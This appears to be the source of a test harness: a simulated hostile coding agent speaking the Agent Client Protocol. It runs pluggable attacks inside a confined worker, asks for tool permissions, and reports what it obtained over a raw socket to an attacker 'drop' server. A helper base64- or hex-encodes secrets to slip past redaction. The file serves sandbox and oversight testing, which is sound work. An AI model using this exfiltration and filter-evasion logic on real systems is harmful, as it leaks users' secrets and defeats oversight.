"""A hostile agent for tests: it speaks the Agent Client Protocol, and its own process does what a script says.

    python adversary.py PLAN.json

A plan is a JSON object:

    hands     a folder of Python files; a function in one of them is one attack, called with an `At`
    turns     by the id of a task, or `repair`, the names of the attacks to try when it is first asked for; nothing is
              done at a further prompt
    facts     what the attacker knows of the machine: everything but its secrets
    drop      host and port of the attacker's own server

What an attack returns goes to that server as one line of JSON, `{"attack": name, "got": …}`, or `"failed"` with the
error that ended it: whoever looks on learns what was really to be had, and not what a redactor left of it. Only the
standard library is needed, since a confined process may have no more than the system's own Python.
"""

import base64
import json
import os
import re
import socket
import sys
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from importlib import util
from pathlib import Path
from typing import Any

Json = dict[str, Any]
Hand = Callable[["At"], object]

_OPTIONS = [
    {"optionId": "always", "name": "Always", "kind": "allow_always"},
    {"optionId": "once", "name": "Once", "kind": "allow_once"},
    {"optionId": "no", "name": "No", "kind": "reject_once"},
]
# More than any attack has to show; what is looked for comes early.
_MOST = 4 * 1024 * 1024


class At:
    """Where an attacker stands and what it can call on.

    Attributes:
        attack: the name of the attack that is tried.
        facts: what it knows of the machine.
        tree: the working tree.
        prompt: what it was asked.
        drop: host and port of its own server.
    """

    def __init__(self, plan: Mapping[str, Any], client: "Client | None" = None) -> None:
        self.attack = ""
        self.prompt = ""
        self.facts: Mapping[str, Any] = plan.get("facts", {})
        self.tree = Path.cwd()
        self.drop: Sequence[Any] = plan.get("drop", ())
        self._client = client

    @property
    def home(self) -> Path:
        """Its HOME."""
        return Path(os.environ["HOME"])

    def tell(self, **told: object) -> None:
        """Send something to the attacker's own server."""
        if not self.drop:
            return
        line = json.dumps({"attack": self.attack, **{name: _plain(value) for name, value in told.items()}})
        # Without a network nobody hears of it, and the attacker goes on.
        with suppress(OSError), socket.create_connection(tuple(self.drop), timeout=5) as drop:
            drop.sendall(line.encode() + b"\n")

    def say(self, text: str) -> None:
        """Say something to the client."""
        self._of_client.update({"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}})

    def call(self, title: str, **fields: object) -> None:
        """Tell of a tool call."""
        self._of_client.update({"sessionUpdate": "tool_call", "toolCallId": self.attack, "title": title, **fields})

    def asks(
        self, raw: Mapping[str, object], kind: str = "execute", *, title: str = "a call", session: str = ""
    ) -> bool:
        """Ask for permission, and whether it was given."""
        call = {"toolCallId": f"{self.attack}-{len(str(raw))}", "title": title, "kind": kind, "rawInput": raw}
        params = {"toolCall": call, "options": _OPTIONS, **({"sessionId": session} if session else {})}
        answer = self.request("session/request_permission", params)
        chosen = answer.get("result", {}).get("outcome", {}).get("optionId")
        return chosen in {"always", "once"}

    def request(self, method: str, params: Mapping[str, object]) -> Json:
        """Call any method of the client's."""
        return self._of_client.request(method, params)

    @property
    def _of_client(self) -> "Client":
        if self._client is None:
            raise RuntimeError("nobody is there to be talked to")
        return self._client


class Client:
    """The worker, as the agent sees it."""

    def __init__(self) -> None:
        self._last = 1000
        self._held: list[Json] = []

    def take(self) -> Json | None:
        """The next message; None when there is none to come."""
        if self._held:
            return self._held.pop(0)
        return self._read()

    def send(self, message: Mapping[str, object]) -> None:
        """Send one message."""
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n")
        sys.stdout.flush()

    def update(self, update: Mapping[str, object]) -> None:
        """Tell of something in the one session."""
        self.send({"method": "session/update", "params": {"sessionId": "s-1", "update": update}})

    def request(self, method: str, params: Mapping[str, object]) -> Json:
        """Ask and wait; other messages wait meanwhile."""
        self._last += 1
        self.send({"id": self._last, "method": method, "params": {"sessionId": "s-1", **params}})
        while (message := self._read()) is not None:
            if message.get("id") == self._last and "method" not in message:
                return message
            self._held.append(message)
        sys.exit(0)

    @staticmethod
    def _read() -> Json | None:
        line = sys.stdin.buffer.readline()
        return json.loads(line) if line else None


def hands_in(folder: Path) -> dict[str, Hand]:
    """Every attack in a folder of Python files, by name."""
    found: dict[str, Hand] = {}
    sys.path.insert(0, str(folder))
    for path in sorted(folder.glob("*.py")):
        made = util.spec_from_file_location(path.stem, path)
        assert made is not None
        assert made.loader is not None
        module = util.module_from_spec(made)
        made.loader.exec_module(module)
        found |= {
            name: value
            for name, value in vars(module).items()
            if not name.startswith("_") and getattr(value, "__module__", "") == path.stem and callable(value)
        }
    return found


def attempt(at: At, names: Sequence[str], hands: Mapping[str, Hand]) -> None:
    """Try one attack after the other, whatever becomes of each, and tell of each."""
    for name in names:
        at.attack = name
        try:
            got = hands[name](at)
        except Exception as error:  # noqa: BLE001  # whatever stops one attack, the next is tried
            at.tell(failed=f"{type(error).__name__}: {error}")
        else:
            at.tell(got=got)


def _taken(turns: Mapping[str, Sequence[str]], at: At, plan: Mapping[str, Any]) -> Sequence[str]:
    """What is to be tried at this prompt; once, as a file in the task's HOME says to the processes that come later."""
    asked = re.search(r"^Task ID: (.+)$", at.prompt, re.MULTILINE)
    task = asked[1].strip() if asked else "repair"
    tried = at.home / f".tried-{plan.get('name', '')}-{task}"
    if tried.exists():
        return ()
    tried.touch()
    return turns.get(task, ())


def _plain(value: object) -> object:
    """A value as JSON has it; bytes as text of which each byte is a character."""
    if isinstance(value, bytes):
        return value[:_MOST].decode("latin-1")
    if isinstance(value, Mapping):
        return {str(name): _plain(one) for name, one in value.items()}
    if isinstance(value, (list, tuple)):
        return [_plain(one) for one in value]
    return value if isinstance(value, (str, int, float, bool, type(None))) else repr(value)


def main(arguments: Sequence[str]) -> None:
    """Play the plan that is named."""
    if "--version" in arguments:
        print("adversary 1")  # noqa: T201  # it is what the option is for
        return
    plan = json.loads(Path(arguments[0]).read_text("utf-8"))
    hands = hands_in(Path(plan["hands"]))
    client = Client()
    at = At(plan, client)
    turns: dict[str, list[str]] = dict(plan["turns"])
    while (message := client.take()) is not None:
        method, number = message.get("method"), message.get("id")
        if number is None or method is None:
            continue
        if method == "session/prompt":
            at.prompt = "".join(block.get("text", "") for block in message["params"]["prompt"])
            attempt(at, _taken(turns, at, plan), hands)
            client.send({"id": number, "result": {"stopReason": "end_turn"}})
        elif method == "initialize":
            about = {"name": "adversary", "version": "1"}
            client.send({"id": number, "result": {"protocolVersion": 1, "agentInfo": about, "agentCapabilities": {}}})
        elif method == "session/new":
            client.send({"id": number, "result": {"sessionId": "s-1"}})
        else:
            client.send({"id": number, "error": {"code": -32601, "message": f"no {method}"}})


def encodings(secret: str) -> tuple[str, ...]:
    """A secret as an attacker might write it so that it is not found."""
    raw = secret.encode()
    return (secret, base64.b64encode(raw).decode().rstrip("="), raw.hex())


if __name__ == "__main__":
    main(sys.argv[1:])
